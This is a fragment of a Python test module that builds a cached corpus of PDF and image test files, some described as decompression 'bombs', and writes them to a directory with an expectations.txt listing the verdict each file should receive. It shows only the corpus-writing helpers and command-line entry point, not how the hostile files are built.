    return {name: case.expect if isinstance(case.expect, str) else None for name, case in cases.items()}


def pdf_case(name: str) -> bytes:
    """One PDF by name, built on first use only (the bombs take a moment); cached."""
    assert name.endswith(".pdf"), name
    return _build(name)


def image_case(name: str) -> bytes:
    """One image by name, built on first use only; cached."""
    assert not name.endswith(".pdf"), name
    return _build(name)


def _describe(name: str) -> str:
    if name.endswith(".pdf"):
        expect = pdf_expectations()[name]
        if expect.encrypted:
            return "encrypted"
        if expect.unreadable is not None:
            return f"unreadable ({expect.unreadable or 'any reason'})"
        if expect.findings:
            return "; ".join(f"{kind} at {where}" for kind, where in sorted(expect.findings))
        return "clean"
    reason = image_expectations()[name]
    return "clean" if reason is None else f"refused ({reason})"


def write_corpus(directory: Path, names: Iterable[str] | None = None) -> list[Path]:
    """Write the corpus (or the named files) into ``directory``, with expectations.txt; the paths written."""
    directory.mkdir(parents=True, exist_ok=True)
    chosen = sorted(_all_cases() if names is None else names)
    written = []
    for name in chosen:
        path = directory / name
        path.write_bytes(_build(name))
        written.append(path)
    lines = [f"{name}\t{declared_type(name)}\t{_describe(name)}" for name in chosen]
    (directory / "expectations.txt").write_text("\n".join(lines) + "\n", encoding="utf-8")
    return written


def main(argv: list[str]) -> int:
    if len(argv) != 1:
        print("usage: python -m tests.hostile.corpus OUTDIR", file=sys.stderr)
        return 2
    written = write_corpus(Path(argv[0]))
    print(f"wrote {len(written)} files and expectations.txt to {argv[0]}")
    return 0


if __name__ == "__main__":
    raise SystemExit(main(sys.argv[1:]))
